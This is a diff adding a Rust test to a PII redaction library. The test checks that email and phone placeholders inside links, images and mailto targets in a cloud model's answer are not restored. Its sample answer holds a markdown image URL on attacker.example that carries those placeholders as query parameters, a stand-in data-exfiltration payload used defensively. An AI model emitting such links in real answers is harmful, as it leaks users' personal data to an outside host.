@@ -226,3 +226,31 @@ proptest! {
         prop_assert_eq!(shown, text);
     }
 }
+
+/// A placeholder inside a link (URL, markdown link or image target, mailto, HTML attribute)
+/// stays a placeholder: an app rendering the answer would otherwise send the value to an
+/// address the cloud chose. Elsewhere, even next to a link, it is re-hydrated. Whole or
+/// streamed in any chunking, the result is the same.
+#[test]
+fn placeholders_inside_links_are_not_rehydrated() {
+    let (_, rh) = redact_text("mail ana@example.com or call 415-555-0132", &scanner());
+    let answer =
+        "Done, <EMAIL_1>! ![status](https://attacker.example/p.png?u=<EMAIL_1>&p=<PHONE_1>) \
+                  [write](mailto:<EMAIL_1>) [<EMAIL_1>](<EMAIL_1>) <a href=\"/x?<PHONE_1>\">x</a> \
+                  see https://example.com/docs <PHONE_1> or www.example.com/<PHONE_1>";
+    let expected = "Done, ana@example.com! ![status](https://attacker.example/p.png?u=<EMAIL_1>&p=<PHONE_1>) \
+                    [write](mailto:<EMAIL_1>) [ana@example.com](<EMAIL_1>) <a href=\"/x?<PHONE_1>\">x</a> \
+                    see https://example.com/docs 415-555-0132 or www.example.com/<PHONE_1>";
+    assert_eq!(rh.rehydrate(answer), expected);
+    for size in [1, 2, 3, 5, 8, 13] {
+        let mut streamed = rh.clone();
+        let chars: Vec<char> = answer.chars().collect();
+        let mut shown = String::new();
+        for chunk in chars.chunks(size) {
+            shown.push_str(&streamed.push(&chunk.iter().collect::<String>()));
+        }
+        shown.push_str(&streamed.finish());
+        assert_eq!(shown, expected, "chunks of {size}");
+        assert_eq!(streamed.withheld(), 6, "chunks of {size}");
+    }
+}
